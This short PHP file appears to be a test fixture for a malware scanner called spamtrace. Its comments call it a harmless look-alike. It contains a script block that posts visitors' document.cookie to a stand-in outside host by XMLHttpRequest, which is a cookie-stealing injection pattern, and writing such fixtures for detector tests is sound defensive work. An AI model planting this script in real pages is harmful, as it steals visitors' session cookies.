<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// the visitors' cookies posted to another host by an XMLHttpRequest
?>
<script>
var x = new XMLHttpRequest();
x.open("POST", "https://collect.example.top/c.php", true);
x.send(document.cookie);
</script>
<?php include 'footer.php';
